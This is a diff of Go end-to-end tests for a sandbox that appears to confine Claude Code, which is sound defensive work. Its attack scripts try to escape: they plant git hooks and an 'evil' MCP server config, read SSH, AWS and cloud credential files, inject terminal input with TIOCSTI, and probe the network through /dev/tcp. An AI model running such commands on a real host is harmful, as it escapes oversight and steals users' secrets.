@@ -14,50 +14,19 @@ import (
 	"net"
 	"os"
 	"path/filepath"
-	"sort"
 	"strconv"
 	"strings"
 	"syscall"
 	"testing"
 	"time"
 
+	"github.com/claudebox/claudebox/e2e/harness"
+
 	"golang.org/x/sys/unix"
 
 	"github.com/claudebox/claudebox/instance"
 	"github.com/claudebox/claudebox/paths"
 )
-
-// snapshot describes path on the host exactly: absent, a symlink and its
-// target, a file's mode and bytes, or a directory with every entry in it.
-func snapshot(path string) string {
-	fi, err := os.Lstat(path)
-	switch {
-	case err != nil:
-		return "absent"
-	case fi.Mode()&os.ModeSymlink != 0:
-		target, _ := os.Readlink(path)
-		return "symlink " + target
-	case fi.IsDir():
-		entries, _ := os.ReadDir(path)
-		var b strings.Builder
-		fmt.Fprintf(&b, "dir %v\n", fi.Mode())
-		for _, e := range entries {
-			fmt.Fprintf(&b, "%s: %s\n", e.Name(), snapshot(filepath.Join(path, e.Name())))
-		}
-		return b.String()
-	default:
-		data, _ := os.ReadFile(path)
-		return fmt.Sprintf("file %v %q", fi.Mode(), data)
-	}
-}
-
-func snapshots(paths []string) map[string]string {
-	s := map[string]string{}
-	for _, p := range paths {
-		s[p] = snapshot(p)
-	}
-	return s
-}
 
 // attackScript tries every way to change each path given as an argument:
 // write, append, create, rename over, delete, replace by a symlink, write
@@ -78,59 +47,29 @@ done 2>/dev/null
 echo attacked
 `
 
-// noPlaceholders checks that the placeholders a launch made under dir are
-// gone: the supervisor removes them before it exits.
-func noPlaceholders(t *testing.T, dir string) {
-	t.Helper()
-	var left []string
-	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
-		if err == nil && instance.IsStandIn(p, fi) {
-			left = append(left, p)
-		}
-		return nil
-	})
-	if len(left) > 0 {
-		t.Errorf("placeholders left on the host after the session: %q", left)
-	}
-}
-
-func compareSnapshots(t *testing.T, before map[string]string) {
-	t.Helper()
-	var paths []string
-	for p := range before {
-		paths = append(paths, p)
-	}
-	sort.Strings(paths)
-	for _, p := range paths {
-		if after := snapshot(p); after != before[p] {
-			t.Errorf("%s changed on the host:\nbefore: %s\nafter:  %s", p, before[p], after)
-		}
-	}
-}
-
 // TestEscapeProtectedPaths attacks everything in the project and its git
 // directories that git, a shell, an editor, direnv or Claude Code on the
 // host would run or obey: existing files and directories, and paths that do
 // not exist yet, from the main checkout and from a linked worktree.
 func TestEscapeProtectedPaths(t *testing.T) {
-	h := newE2EHost(t)
-	repo := filepath.Join(h.home, "code", "repo")
-	h.gitRepo(repo)
+	h := harness.NewHost(t)
+	repo := filepath.Join(h.Home, "code", "repo")
+	h.GitRepo(repo)
 	// A submodule, hooks in core.hooksPath, and Claude Code and editor
 	// settings that exist; the rest of the protected names do not.
-	lib := filepath.Join(h.home, "code", "lib")
-	h.gitRepo(lib)
-	h.run(repo, nil, "git", "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "lib")
-	h.write(filepath.Join(repo, ".githooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
-	h.run(repo, nil, "git", "config", "core.hooksPath", ".githooks")
-	h.write(filepath.Join(repo, ".gitconfig-team"), "[alias]\n\tst = status\n")
-	h.run(repo, nil, "git", "config", "include.path", "../.gitconfig-team")
-	h.write(filepath.Join(repo, ".claude", "settings.json"), `{"hooks":{}}`+"\n")
-	h.write(filepath.Join(repo, ".vscode", "tasks.json"), "{}\n")
-	h.write(filepath.Join(repo, ".envrc"), "export A=1\n")
-	wt := filepath.Join(h.home, "code", "repo-wt")
-	h.run(repo, nil, "git", "worktree", "add", "-q", wt)
-	h.chown()
+	lib := filepath.Join(h.Home, "code", "lib")
+	h.GitRepo(lib)
+	h.Run(repo, nil, "git", "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "lib")
+	h.Write(filepath.Join(repo, ".githooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
+	h.Run(repo, nil, "git", "config", "core.hooksPath", ".githooks")
+	h.Write(filepath.Join(repo, ".gitconfig-team"), "[alias]\n\tst = status\n")
+	h.Run(repo, nil, "git", "config", "include.path", "../.gitconfig-team")
+	h.Write(filepath.Join(repo, ".claude", "settings.json"), `{"hooks":{}}`+"\n")
+	h.Write(filepath.Join(repo, ".vscode", "tasks.json"), "{}\n")
+	h.Write(filepath.Join(repo, ".envrc"), "export A=1\n")
+	wt := filepath.Join(h.Home, "code", "repo-wt")
+	h.Run(repo, nil, "git", "worktree", "add", "-q", wt)
+	h.Chown()
 
 	common := filepath.Join(repo, ".git")
 	targets := []string{
@@ -154,20 +93,20 @@ func TestEscapeProtectedPaths(t *testing.T) {
 	} {
 		targets = append(targets, filepath.Join(repo, name), filepath.Join(wt, name))
 	}
-	before := snapshots(targets)
+	before := harness.Snapshots(targets)
 
 	for _, dir := range []string{repo, wt} {
-		out := h.run(dir, nil, "claudebox", append([]string{"--shell", "-c", attackScript, "attack"}, targets...)...)
+		out := h.Run(dir, nil, "claudebox", append([]string{"--shell", "-c", attackScript, "attack"}, targets...)...)
 		if !strings.Contains(out, "attacked") {
 			t.Fatalf("the attack did not run in %s: %s", dir, out)
 		}
 	}
-	noPlaceholders(t, filepath.Dir(repo))
-	compareSnapshots(t, before)
+	harness.NoPlaceholders(t, filepath.Dir(repo))
+	harness.CompareSnapshots(t, before)
 
 	// Git still works inside, and Claude Code's own save of a project
 	// permission rule succeeds, into the session's private copy.
-	out := h.inside(repo, nil, `
+	out := h.Inside(repo, nil, `
 		git status --short >/dev/null && echo ok git-status
 		git -c user.name=t -c user.email=t@e commit -q --allow-empty -m inside && echo ok git-commit
 		echo '{"permissions":{"allow":["Bash(ls:*)"]}}' > .claude/settings.local.json && echo ok settings-saved
@@ -178,8 +117,8 @@ func TestEscapeProtectedPaths(t *testing.T) {
 			t.Errorf("inside: missing %q in:\n%s", want, out)
 		}
 	}
-	noPlaceholders(t, filepath.Dir(repo))
-	if s := snapshot(filepath.Join(repo, ".claude", "settings.local.json")); s != "absent" {
+	harness.NoPlaceholders(t, filepath.Dir(repo))
+	if s := harness.Snapshot(filepath.Join(repo, ".claude", "settings.local.json")); s != "absent" {
 		t.Errorf("the private copy of .claude/settings.local.json reached the host: %s", s)
 	}
 }
@@ -188,18 +127,18 @@ func TestEscapeProtectedPaths(t *testing.T) {
 // plugins, agents and scripts the host's claude runs or obeys, and the MCP
 // servers of ~/.claude.json. Nothing in either may change.
 func TestEscapeClaudeConfig(t *testing.T) {
-	h := newE2EHost(t)
-	claudeDir := filepath.Join(h.home, ".claude")
-	h.write(filepath.Join(claudeDir, "settings.json"), `{"statusLine":{"type":"command","command":"~/.claude/statusline.sh"}}`+"\n")
-	h.write(filepath.Join(claudeDir, "CLAUDE.md"), "be careful\n")
-	h.write(filepath.Join(claudeDir, "statusline.sh"), "#!/bin/sh\necho ok\n")
-	h.write(filepath.Join(claudeDir, "hooks", "guard.sh"), "#!/bin/sh\nexit 0\n")
-	h.write(filepath.Join(claudeDir, "plugins", "installed_plugins.json"), "{}\n")
-	h.write(filepath.Join(claudeDir, "skills", "x", "SKILL.md"), "skill\n")
-	h.write(filepath.Join(h.home, ".claude.json"), `{"mcpServers":{}}`+"\n")
-	proj := filepath.Join(h.home, "code", "p")
-	h.write(filepath.Join(proj, "README"), "p\n")
-	before := snapshots([]string{claudeDir, filepath.Join(h.home, ".claude.json")})
+	h := harness.NewHost(t)
+	claudeDir := filepath.Join(h.Home, ".claude")
+	h.Write(filepath.Join(claudeDir, "settings.json"), `{"statusLine":{"type":"command","command":"~/.claude/statusline.sh"}}`+"\n")
+	h.Write(filepath.Join(claudeDir, "CLAUDE.md"), "be careful\n")
+	h.Write(filepath.Join(claudeDir, "statusline.sh"), "#!/bin/sh\necho ok\n")
+	h.Write(filepath.Join(claudeDir, "hooks", "guard.sh"), "#!/bin/sh\nexit 0\n")
+	h.Write(filepath.Join(claudeDir, "plugins", "installed_plugins.json"), "{}\n")
+	h.Write(filepath.Join(claudeDir, "skills", "x", "SKILL.md"), "skill\n")
+	h.Write(filepath.Join(h.Home, ".claude.json"), `{"mcpServers":{}}`+"\n")
+	proj := filepath.Join(h.Home, "code", "p")
+	h.Write(filepath.Join(proj, "README"), "p\n")
+	before := harness.Snapshots([]string{claudeDir, filepath.Join(h.Home, ".claude.json")})
 
 	var targets []string
 	for _, name := range []string{
@@ -209,7 +148,7 @@ func TestEscapeClaudeConfig(t *testing.T) {
 	} {
 		targets = append(targets, filepath.Join(claudeDir, name))
 	}
-	out := h.run(proj, nil, "claudebox", append([]string{"--shell", "-c", attackScript + `
+	out := h.Run(proj, nil, "claudebox", append([]string{"--shell", "-c", attackScript + `
 		echo '{"mcpServers":{"evil":{"command":"/tmp/evil"}}}' > ~/.claude.json
 		mv ~/.claude ~/.claude.moved && mkdir ~/.claude && echo evil > ~/.claude/settings.json
 		true
@@ -217,9 +156,9 @@ func TestEscapeClaudeConfig(t *testing.T) {
 	if !strings.Contains(out, "attacked") {
 		t.Fatalf("the attack did not run: %s", out)
 	}
-	compareSnapshots(t, before)
+	harness.CompareSnapshots(t, before)
 	// The configuration is there to use inside, read-only.
-	out = h.inside(proj, nil, `
+	out = h.Inside(proj, nil, `
 		grep -q statusline ~/.claude/settings.json && echo ok settings-visible
 		test -f ~/.claude/statusline.sh && echo ok script-visible
 		test -f ~/.claude/skills/x/SKILL.md && echo ok skills-visible
@@ -235,30 +174,30 @@ func TestEscapeClaudeConfig(t *testing.T) {
 // namespaces to remount the read-only binds, umount, a setuid binary, and
 // descriptors inherited from the launch.
 func TestEscapeKernel(t *testing.T) {
-	h := newE2EHost(t)
-	proj := filepath.Join(h.home, "code", "k")
-	h.write(filepath.Join(proj, "README"), "k\n")
+	h := harness.NewHost(t)
+	proj := filepath.Join(h.Home, "code", "k")
+	h.Write(filepath.Join(proj, "README"), "k\n")
 	// A setuid-root program that prints its effective uid: outside the
 	// sandbox it runs as root, which proves it elevates at all.
 	self, _ := os.Executable()
 	euid := filepath.Join(proj, "euid")
-	h.copyFile(self, euid, 0o755)
-	if h.uid >= 0 {
+	h.CopyFile(self, euid, 0o755)
+	if h.UID >= 0 {
 		os.Chown(euid, 0, 0)
 		os.Chmod(euid, 0o755|os.ModeSetuid)
-		if out := strings.TrimSpace(h.run(proj, nil, euid)); out != "0" {
+		if out := strings.TrimSpace(h.Run(proj, nil, euid)); out != "0" {
 			t.Fatalf("the setuid control did not elevate outside the sandbox: euid %s", out)
 		}
 	}
 	// A host process of the same user, to find and signal.
-	sleeper := h.command(proj, nil, "sleep", "300")
+	sleeper := h.Command(proj, nil, "sleep", "300")
 	if err := sleeper.Start(); err != nil {
 		t.Fatal(err)
 	}
 	defer sleeper.Process.Kill()
 	pid := strconv.Itoa(sleeper.Process.Pid)
 
-	out := h.run(proj, []string{"HOST_PID=" + pid}, "claudebox", "--env", "HOST_PID", "--shell", "-c", `
+	out := h.Run(proj, []string{"HOST_PID=" + pid}, "claudebox", "--env", "HOST_PID", "--shell", "-c", `
 		check() { if eval "$2" >/dev/null 2>&1; then echo "ok $1"; else echo "FAIL $1"; fi; }
 		check host-pid-invisible '! test -e /proc/$HOST_PID'
 		check host-kill-fails '! kill -0 $HOST_PID'
@@ -279,7 +218,7 @@ func TestEscapeKernel(t *testing.T) {
 	if err := unix.Kill(sleeper.Process.Pid, 0); err != nil {
 		t.Errorf("the host process died: %v", err)
 	}
-	if h.uid >= 0 && snapshot(euid) == "absent" {
+	if h.UID >= 0 && harness.Snapshot(euid) == "absent" {
 		t.Error("the setuid control vanished")
 	}
 }
@@ -289,13 +228,13 @@ func TestEscapeKernel(t *testing.T) {
 // inside, and the sandbox could plant keys for the host. The key syscalls
 // are refused.
 func TestEscapeKeyring(t *testing.T) {
-	h := newE2EHost(t)
-	requireTool(t, "keyctl", "apt-get install keyutils")
-	proj := filepath.Join(h.home, "code", "keys")
-	h.write(filepath.Join(proj, "README"), "k\n")
+	h := harness.NewHost(t)
+	harness.RequireTool(t, "keyctl", "apt-get install keyutils")
+	proj := filepath.Join(h.Home, "code", "keys")
+	h.Write(filepath.Join(proj, "README"), "k\n")
 	// A fresh session keyring holding a key, as a login session's would;
 	// the control reads it on the host before the sandbox tries.
-	out := h.run(proj, nil, "keyctl", "session", "-", "sh", "-c", `
+	out := h.Run(proj, nil, "keyctl", "session", "-", "sh", "-c", `
 		id=$(keyctl add user claudebox-host HOST-KEY-c41d @s)
 		echo "control $(keyctl print $id)"
 		claudebox --shell -c "
@@ -324,20 +263,20 @@ func TestEscapeKeyring(t *testing.T) {
 // instance, and checks that identity tokens in the environment stay out of
 // the sandbox, its argv and --dry-run, unless named with --env.
 func TestEscapeSecrets(t *testing.T) {
-	h := newE2EHost(t)
+	h := harness.NewHost(t)
 	secrets := []string{
 		".ssh/id_ed25519", ".aws/credentials", ".gnupg/private-keys-v1.d/key", ".config/gh/hosts.yml",
 		".netrc", ".docker/config.json", ".kube/config", ".config/gcloud/credentials.db",
 	}
 	for _, s := range secrets {
-		h.write(filepath.Join(h.home, s), "SECRET-"+s+"\n")
+		h.Write(filepath.Join(h.Home, s), "SECRET-"+s+"\n")
 	}
-	other := filepath.Join(h.home, "code", "other")
-	h.write(filepath.Join(other, "README"), "other\n")
-	h.run(other, nil, "claudebox", "--shell", "-c", "echo 'other project prompt' > ~/.claude/history.jsonl")
-	otherInstance := instance.Dir(filepath.Join(h.home, ".claudebox"), other)
-	proj := filepath.Join(h.home, "code", "p")
-	h.write(filepath.Join(proj, "README"), "p\n")
+	other := filepath.Join(h.Home, "code", "other")
+	h.Write(filepath.Join(other, "README"), "other\n")
+	h.Run(other, nil, "claudebox", "--shell", "-c", "echo 'other project prompt' > ~/.claude/history.jsonl")
+	otherInstance := instance.Dir(filepath.Join(h.Home, ".claudebox"), other)
+	proj := filepath.Join(h.Home, "code", "p")
+	h.Write(filepath.Join(proj, "README"), "p\n")
 
 	tokens := []string{
 		"GITHUB_TOKEN=ghp_secret_github", "GH_TOKEN=gho_secret_gh", "GH_ENTERPRISE_TOKEN=ghe_secret",
@@ -355,10 +294,10 @@ func TestEscapeSecrets(t *testing.T) {
 	`
 	var paths []string
 	for _, s := range secrets {
-		paths = append(paths, filepath.Join(h.home, s))
+		paths = append(paths, filepath.Join(h.Home, s))
 	}
-	paths = append(paths, otherInstance, filepath.Join(h.home, ".claudebox"))
-	out := h.run(proj, tokens, "claudebox", append([]string{"--shell", "-c", script, "read"}, paths...)...)
+	paths = append(paths, otherInstance, filepath.Join(h.Home, ".claudebox"))
+	out := h.Run(proj, tokens, "claudebox", append([]string{"--shell", "-c", script, "read"}, paths...)...)
 	if !strings.Contains(out, "DONE") {
 		t.Fatalf("the script did not finish:\n%s", out)
 	}
@@ -371,14 +310,14 @@ func TestEscapeSecrets(t *testing.T) {
 	if !strings.Contains(out, "ANTHROPIC_API_KEY=sk-ant-api03-") {
 		t.Errorf("ANTHROPIC_API_KEY should be a phantom key:\n%s", out)
 	}
-	dry := h.run(proj, tokens, "claudebox", "--dry-run", "--env", "GITHUB_TOKEN")
+	dry := h.Run(proj, tokens, "claudebox", "--dry-run", "--env", "GITHUB_TOKEN")
 	for _, leak := range []string{"ghp_secret_github", "sk-ant-secret", "aws_secret"} {
 		if strings.Contains(dry, leak) {
 			t.Errorf("--dry-run prints the value of a secret (%s):\n%s", leak, dry)
 		}
 	}
 	// Naming a token is the explicit opt-in.
-	if out := h.run(proj, tokens, "claudebox", "--env", "GITHUB_TOKEN", "--shell", "-c", `echo "token=$GITHUB_TOKEN gh=$GH_TOKEN"`); strings.TrimSpace(out) != "token=ghp_secret_github gh=" {
+	if out := h.Run(proj, tokens, "claudebox", "--env", "GITHUB_TOKEN", "--shell", "-c", `echo "token=$GITHUB_TOKEN gh=$GH_TOKEN"`); strings.TrimSpace(out) != "token=ghp_secret_github gh=" {
 		t.Errorf("--env GITHUB_TOKEN inside: %q", out)
 	}
 }
@@ -388,10 +327,10 @@ func TestEscapeSecrets(t *testing.T) {
 // that the filter blocking them leaves the terminal working: a resize still
 // reaches the sandbox's foreground process and Claude Code's screen.
 func TestEscapeTerminal(t *testing.T) {
-	h := newE2EHost(t)
-	proj := filepath.Join(h.home, "code", "tty")
-	h.write(filepath.Join(proj, "README"), "tty\n")
-	tmux := h.tmux(proj)
+	h := harness.NewHost(t)
+	proj := filepath.Join(h.Home, "code", "tty")
+	h.Write(filepath.Join(proj, "README"), "tty\n")
+	tmux := h.Tmux(proj)
 	// The command prints its verdicts from pieces, so that its own echo on
 	// the screen does not match them.
 	const inject = `perl -e '$c = "X"; $i = "INJECT-"; print ioctl(STDIN, 0x5412, $c) ? "${i}WORKED\n" : "${i}BLOCKED $!\n"; ioctl(STDIN, 0x541C, $c) or print "LINUX-", "BLOCKED $!\n"; print "DO", "NE\n"'`
@@ -400,7 +339,7 @@ func TestEscapeTerminal(t *testing.T) {
 	// the same command does inject, so the check inside can fail.
 	tmux("new-session", "-d", "-s", "host", "-x", "120", "-y", "30", "bash --norc --noprofile")
 	tmux("send-keys", "-t", "host", inject, "Enter")
-	host := waitScreen(t, tmuxTarget(tmux, "host"), func(s string) bool {
+	host := harness.WaitScreen(t, harness.TmuxTarget(tmux, "host"), func(s string) bool {
 		return strings.Contains(s, "INJECT-WORKED") || strings.Contains(s, "INJECT-BLOCKED")
 	}, "the control's result")
 	if b, _ := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti"); strings.TrimSpace(string(b)) == "1" && !strings.Contains(host, "INJECT-WORKED") {
@@ -409,9 +348,9 @@ func TestEscapeTerminal(t *testing.T) {
 
 	tmux("new-session", "-d", "-s", "box", "-x", "120", "-y", "30", "claudebox --shell --norc --noprofile")
 	tmux("send-keys", "-t", "box", "echo RE''ADY", "Enter")
-	waitScreen(t, tmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "READY") }, "the sandbox's shell")
+	harness.WaitScreen(t, harness.TmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "READY") }, "the sandbox's shell")
 	tmux("send-keys", "-t", "box", inject, "Enter")
-	screen := waitScreen(t, tmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "DONE") }, "the injection's result")
+	screen := harness.WaitScreen(t, harness.TmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "DONE") }, "the injection's result")
 	if !strings.Contains(screen, "INJECT-BLOCKED Operation not permitted") || !strings.Contains(screen, "LINUX-BLOCKED Operation not permitted") {
 		t.Fatalf("TIOCSTI/TIOCLINUX inside the sandbox:\n%s", screen)
 	}
@@ -421,25 +360,25 @@ func TestEscapeTerminal(t *testing.T) {
 	tmux("send-keys", "-t", "box", `bash -c 'trap "echo WIN\"\"CH \$(stty size)" WINCH; while :; do sleep 0.1; done'`, "Enter")
 	time.Sleep(500 * time.Millisecond)
 	tmux("resize-window", "-t", "box", "-x", "100", "-y", "25")
-	waitScreen(t, tmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "WINCH 25 100") }, "SIGWINCH inside the sandbox")
+	harness.WaitScreen(t, harness.TmuxTarget(tmux, "box"), func(s string) bool { return strings.Contains(s, "WINCH 25 100") }, "SIGWINCH inside the sandbox")
 }
 
 // TestEscapeTerminalClaudeResize checks the same with the real Claude Code
 // TUI: after a resize its input box is redrawn at the new width.
 func TestEscapeTerminalClaudeResize(t *testing.T) {
-	h := newE2EHost(t)
-	requireClaude(t)
-	api := startFakeAPI(t, "FAKE-REPLY")
+	h := harness.NewHost(t)
+	harness.RequireClaude(t)
+	api := harness.StartFakeAPI(t, "FAKE-REPLY")
 	const key = "sk-ant-test-resize-key-0123456789"
-	proj := filepath.Join(h.home, "code", "resize")
-	h.write(filepath.Join(proj, "README"), "r\n")
-	h.onboarded(key, proj)
-	tmux := h.tmux(proj)
+	proj := filepath.Join(h.Home, "code", "resize")
+	h.Write(filepath.Join(proj, "README"), "r\n")
+	h.Onboarded(key, proj)
+	tmux := h.Tmux(proj)
 	launch := "env " + strings.Join(api.Env(key), " ") + " TERM=xterm-256color claudebox"
 	tmux("new-session", "-d", "-x", "120", "-y", "40", launch)
-	waitScreen(t, tmux, func(s string) bool { return longestRule(s) == 120 }, "Claude's input box at 120 columns")
+	harness.WaitScreen(t, tmux, func(s string) bool { return longestRule(s) == 120 }, "Claude's input box at 120 columns")
 	tmux("resize-window", "-x", "90", "-y", "30")
-	waitScreen(t, tmux, func(s string) bool { return longestRule(s) == 90 }, "Claude's input box redrawn at 90 columns")
+	harness.WaitScreen(t, tmux, func(s string) bool { return longestRule(s) == 90 }, "Claude's input box redrawn at 90 columns")
 }
 
 // longestRule is the length of the longest run of box-drawing ─ on a line.
@@ -459,29 +398,20 @@ func longestRule(screen string) int {
 	return best
 }
 
-func tmuxTarget(tmux func(...string) string, target string) func(...string) string {
-	return func(args ...string) string {
-		if len(args) > 0 && args[0] == "capture-pane" {
-			args = append(args, "-t", target)
-		}
-		return tmux(args...)
-	}
-}
-
 // TestEscapeConcurrentSessions: a session that ends must not take the
 // placeholders away from one still running in the same project.
 func TestEscapeConcurrentSessions(t *testing.T) {
-	h := newE2EHost(t)
-	proj := filepath.Join(h.home, "code", "two")
-	h.write(filepath.Join(proj, "README"), "two\n")
-	long := h.command(proj, nil, "claudebox", "--shell", "-c", `sleep 2; if echo evil > .envrc 2>/dev/null; then echo CREATED; else echo BLOCKED; fi`)
+	h := harness.NewHost(t)
+	proj := filepath.Join(h.Home, "code", "two")
+	h.Write(filepath.Join(proj, "README"), "two\n")
+	long := h.Command(proj, nil, "claudebox", "--shell", "-c", `sleep 2; if echo evil > .envrc 2>/dev/null; then echo CREATED; else echo BLOCKED; fi`)
 	var out strings.Builder
 	long.Stdout = &out
 	if err := long.Start(); err != nil {
 		t.Fatal(err)
 	}
 	time.Sleep(500 * time.Millisecond)
-	h.inside(proj, nil, "true") // a second session starts and ends meanwhile
+	h.Inside(proj, nil, "true") // a second session starts and ends meanwhile
 	time.Sleep(500 * time.Millisecond)
 	if !instance.IsPlaceholder(filepath.Join(proj, ".envrc")) {
 		t.Errorf("the .envrc placeholder was removed while a session still runs")
@@ -492,9 +422,9 @@ func TestEscapeConcurrentSessions(t *testing.T) {
 	if got := strings.TrimSpace(out.String()); got != "BLOCKED" {
 		t.Errorf("the running session could create .envrc after the other ended: %s", got)
 	}
-	noPlaceholders(t, proj)
-	if snapshot(filepath.Join(proj, ".envrc")) != "absent" {
-		t.Errorf(".envrc on the host: %s", snapshot(filepath.Join(proj, ".envrc")))
+	harness.NoPlaceholders(t, proj)
+	if harness.Snapshot(filepath.Join(proj, ".envrc")) != "absent" {
+		t.Errorf(".envrc on the host: %s", harness.Snapshot(filepath.Join(proj, ".envrc")))
 	}
 }
 
@@ -502,16 +432,16 @@ func TestEscapeConcurrentSessions(t *testing.T) {
 // even a server on the host's loopback; without it, the host's network is
 // shared (Claude needs its API).
 func TestEscapeNoNetwork(t *testing.T) {
-	h := newE2EHost(t)
-	api := startFakeAPI(t, "unused")
+	h := harness.NewHost(t)
+	api := harness.StartFakeAPI(t, "unused")
 	port := api.URL[strings.LastIndex(api.URL, ":")+1:]
-	proj := filepath.Join(h.home, "code", "net")
-	h.write(filepath.Join(proj, "README"), "net\n")
+	proj := filepath.Join(h.Home, "code", "net")
+	h.Write(filepath.Join(proj, "README"), "net\n")
 	probe := fmt.Sprintf(`if exec 3<>/dev/tcp/127.0.0.1/%s; then echo CONNECTED; else echo UNREACHABLE; fi 2>/dev/null`, port)
-	if out := strings.TrimSpace(h.run(proj, nil, "claudebox", "--network=host", "--shell", "-c", probe)); out != "CONNECTED" {
+	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--network=host", "--shell", "-c", probe)); out != "CONNECTED" {
 		t.Fatalf("control: the shared network should reach the host's loopback: %s", out)
 	}
-	if out := strings.TrimSpace(h.run(proj, nil, "claudebox", "--no-network", "--shell", "-c", probe)); out != "UNREACHABLE" {
+	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--no-network", "--shell", "-c", probe)); out != "UNREACHABLE" {
 		t.Errorf("--no-network reached the host's loopback: %s", out)
 	}
 }
@@ -545,60 +475,60 @@ echo attacked
 // afterwards, and during the session, run nothing, and the next launch uses
 // the project's own instance.
 func TestEscapeGitRedirects(t *testing.T) {
-	h := newE2EHost(t)
-	code := filepath.Join(h.home, "code")
+	h := harness.NewHost(t)
+	code := filepath.Join(h.Home, "code")
 	repo := filepath.Join(code, "repo")
-	h.gitRepo(repo)
+	h.GitRepo(repo)
 	lib := filepath.Join(code, "lib")
-	h.gitRepo(lib)
-	h.run(repo, nil, "git", "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "lib")
+	h.GitRepo(lib)
+	h.Run(repo, nil, "git", "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "lib")
 	// An embedded submodule: added from a clone already in the work tree,
 	// it keeps its .git directory. It lies deeper than the probe looks for
 	// nested repositories: .gitmodules names it.
 	emb := filepath.Join(repo, "third_party", "a", "b", "emb")
-	h.gitRepo(emb)
-	h.run(repo, nil, "git", "submodule", "add", "-q", "./third_party/a/b/emb", "third_party/a/b/emb")
-	h.run(repo, nil, "git", "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "subs")
-	h.run(repo, nil, "git", "config", "extensions.worktreeConfig", "true")
-	h.run(repo, nil, "git", "worktree", "add", "-q", filepath.Join(code, "wt"))
+	h.GitRepo(emb)
+	h.Run(repo, nil, "git", "submodule", "add", "-q", "./third_party/a/b/emb", "third_party/a/b/emb")
+	h.Run(repo, nil, "git", "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "subs")
+	h.Run(repo, nil, "git", "config", "extensions.worktreeConfig", "true")
+	h.Run(repo, nil, "git", "worktree", "add", "-q", filepath.Join(code, "wt"))
 	// A folder of repositories, the session started in it.
-	nested := filepath.Join(h.home, "nested")
-	h.gitRepo(filepath.Join(nested, "one"))
-	h.gitRepo(filepath.Join(nested, "a", "two"))
-	marker := filepath.Join(h.base, "marker")
+	nested := filepath.Join(h.Home, "nested")
+	h.GitRepo(filepath.Join(nested, "one"))
+	h.GitRepo(filepath.Join(nested, "a", "two"))
+	marker := filepath.Join(h.Base, "marker")
 
 	// While a session runs, the host's git works in every repository.
-	session := h.command(repo, nil, "claudebox", "--shell", "-c", "sleep 2")
+	session := h.Command(repo, nil, "claudebox", "--shell", "-c", "sleep 2")
 	if err := session.Start(); err != nil {
 		t.Fatal(err)
 	}
 	time.Sleep(time.Second)
 	for _, dir := range []string{repo, filepath.Join(repo, "lib"), emb, filepath.Join(code, "wt")} {
-		if out, err := h.command(dir, nil, "git", "status", "--short").CombinedOutput(); err != nil {
+		if out, err := h.Command(dir, nil, "git", "status", "--short").CombinedOutput(); err != nil {
 			t.Errorf("host git status in %s during a session: %v\n%s", dir, err, out)
 		}
 	}
 	session.Wait()
 
 	for _, dir := range []string{repo, nested} {
-		if out := h.run(dir, nil, "claudebox", "--shell", "-c", gitRedirectAttack, "attack", marker); !strings.Contains(out, "attacked") {
+		if out := h.Run(dir, nil, "claudebox", "--shell", "-c", gitRedirectAttack, "attack", marker); !strings.Contains(out, "attacked") {
 			t.Fatalf("the attack did not run in %s: %s", dir, out)
 		}
 	}
-	noPlaceholders(t, code)
-	noPlaceholders(t, nested)
+	harness.NoPlaceholders(t, code)
+	harness.NoPlaceholders(t, nested)
 	commit := []string{"-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "host"}
 	for _, dir := range []string{repo, filepath.Join(repo, "lib"), emb, filepath.Join(code, "wt"), filepath.Join(nested, "one"), filepath.Join(nested, "a", "two")} {
-		h.run(dir, nil, "git", "status", "--short")
-		h.run(dir, nil, "git", commit...)
+		h.Run(dir, nil, "git", "status", "--short")
+		h.Run(dir, nil, "git", commit...)
 	}
-	h.run(repo, nil, "git", "-C", "lib", "status")
-	h.run(repo, nil, "git", "-C", "third_party/a/b/emb", "status")
+	h.Run(repo, nil, "git", "-C", "lib", "status")
+	h.Run(repo, nil, "git", "-C", "third_party/a/b/emb", "status")
 	if paths.Exists(marker) {
 		t.Fatal("the host's git ran what the sandbox planted")
 	}
 	for _, dir := range []string{repo, filepath.Join(code, "wt")} {
-		if out := h.inside(dir, nil, `cat ~/.claude/projects/project-root`); strings.TrimSpace(out) != repo {
+		if out := h.Inside(dir, nil, `cat ~/.claude/projects/project-root`); strings.TrimSpace(out) != repo {
 			t.Errorf("the next launch in %s uses the instance of %q", dir, out)
 		}
 	}
@@ -609,26 +539,26 @@ func TestEscapeGitRedirects(t *testing.T) {
 // running what lefthook.yml says), the agent cannot change what the host's
 // git commit runs.
 func TestEscapeHookManagers(t *testing.T) {
-	h := newE2EHost(t)
-	marker := filepath.Join(h.base, "marker")
-	husky := filepath.Join(h.home, "code", "husky")
-	h.gitRepo(husky)
+	h := harness.NewHost(t)
+	marker := filepath.Join(h.Base, "marker")
+	husky := filepath.Join(h.Home, "code", "husky")
+	h.GitRepo(husky)
 	// The stubs as husky 9 writes them.
-	h.write(filepath.Join(husky, ".husky", "_", "h"), "#!/usr/bin/env sh\nn=$(basename \"$0\")\ns=$(dirname \"$(dirname \"$0\")\")/$n\n[ ! -f \"$s\" ] && exit 0\nsh -e \"$s\" \"$@\"\n")
-	h.write(filepath.Join(husky, ".husky", "_", ".gitignore"), "*\n")
+	h.Write(filepath.Join(husky, ".husky", "_", "h"), "#!/usr/bin/env sh\nn=$(basename \"$0\")\ns=$(dirname \"$(dirname \"$0\")\")/$n\n[ ! -f \"$s\" ] && exit 0\nsh -e \"$s\" \"$@\"\n")
+	h.Write(filepath.Join(husky, ".husky", "_", ".gitignore"), "*\n")
 	for _, hook := range []string{"pre-commit", "post-commit", "commit-msg"} {
